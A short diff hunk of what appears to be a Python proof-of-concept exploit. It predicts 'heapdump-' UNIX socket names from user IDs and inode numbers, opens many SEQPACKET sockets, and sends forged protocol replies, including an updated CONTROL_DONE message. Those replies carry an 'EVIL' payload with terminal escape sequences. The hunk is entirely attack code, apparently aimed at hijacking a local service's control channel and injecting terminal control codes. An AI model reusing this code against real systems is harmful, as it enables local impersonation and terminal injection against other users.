@@ -14,7 +14,7 @@ for u in {os.geteuid(), st.st_uid}: names.add(f"heapdump-{u}-1-{st.st_ino:x}-")
 names = sorted(names)
 evil = "\x1b[31mEVIL is whole\x07\n second line".encode()
 replies = [struct.pack("i", 0) + evil.ljust(4096 + 128, b"\0"),                       # of protocol version 1
-           struct.pack("IIiII4xQ", 2, 1, 0, 666, 666, 666) + evil.ljust(4096, b"\0")] # CONTROL_DONE
+           struct.pack("IIiIIIQ", 3, 1, 0, 666, 666, 666, 666) + evil.ljust(4096, b"\0")] # CONTROL_DONE
 sockets, held = [], []
 for i in range(count):
     s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
